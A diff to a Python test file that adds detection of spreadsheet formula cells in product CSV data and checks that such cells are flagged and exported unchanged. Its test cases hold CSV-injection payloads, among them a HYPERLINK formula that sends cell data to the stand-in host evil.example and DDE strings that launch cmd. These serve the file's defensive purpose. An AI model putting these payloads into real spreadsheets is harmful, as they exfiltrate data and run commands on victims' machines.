@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import peewee
@@ -21,6 +22,7 @@ CODES = {
     "orphan-option",
     "qty-mismatch",
     "additional-option-code",
+    "formula-cell",
 }
 
 
@@ -69,7 +71,7 @@ def test_every_finding_code(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
         option_row("100", detail1="青(濃)", quantity="5", option_code="OPT-2"),  # line 3
         option_row("100", data_type="追加型", detail1="あり", option_code="GIFT"),  # line 4
         option_row("999", "SC-999", option_code="OPT-1"),  # line 5: orphan, code clash
-        option_row("999", "SC-999", option_code="OPT-9"),  # line 6
+        option_row("999", "SC-999", detail2="=1+1", option_code="OPT-9"),  # line 6: formula
     ]
     _import(tmp_path, goods, options)
     findings = check_products()
@@ -94,6 +96,7 @@ def test_every_finding_code(db: peewee.SqliteDatabase, tmp_path: Path) -> None:
     assert where["qty-mismatch"] == [(goods_file_name, 2, "数量", "10")]
     assert where["orphan-option"] == [(inv, 5, "商品番号", "999")]
     assert where["additional-option-code"] == [(inv, 4, "オプションコード", "GIFT")]
+    assert where["formula-cell"] == [(inv, 6, "詳細2", "=1+1")]
     qty = found["qty-mismatch"][0]
     assert "9" in qty.message and qty.severity == "warning"
     assert "2行目" in found["duplicate-code"][2].message
@@ -162,3 +165,33 @@ def test_rules_are_data_with_sources() -> None:
 def test_additional_option_markers(db: peewee.SqliteDatabase, tmp_path: Path, marker: str) -> None:
     _import(tmp_path, [goods_row(quantity="")], [option_row(data_type=marker, option_code="X")])
     assert [f.code for f in check_products()] == ["additional-option-code"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "start"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"詳細")', "="),
+        ("+cmd|' /C calc'!A0", "+"),
+        ("-2+3+cmd|' /C calc'!A0", "-"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "@"),
+        ("\t=1+1", "TAB"),
+        ("\r=1+1", "CR"),
+    ],
+)
+def test_formula_cells_are_reported_per_cell_and_kept_exactly(
+    db: peewee.SqliteDatabase, tmp_path: Path, cell: str, start: str
+) -> None:
+    from qsm_desktop.core.products import GOODS, export_sjis
+
+    goods = [goods_row("100", "SC-100", shipping_fee="-100"), goods_row("101", "SC-101")]
+    goods[1][1] = cell  # 販売者コード
+    _import(tmp_path, goods, [option_row("100")])
+    found = _by_code(check_products())["formula-cell"]
+    assert [(f.line, f.column, f.value, f.severity) for f in found] == [
+        (3, "販売者コード", cell, "warning")
+    ]  # -100 is a number, not a formula
+    assert f"「{start}」で始まる" in found[0].message
+    out = tmp_path / "out.csv"
+    export_sjis(GOODS, out)  # a file for Qoo10 / the services: the value goes out unchanged
+    with out.open(encoding="cp932", newline="") as handle:
+        assert list(csv.reader(handle))[2][1] == cell
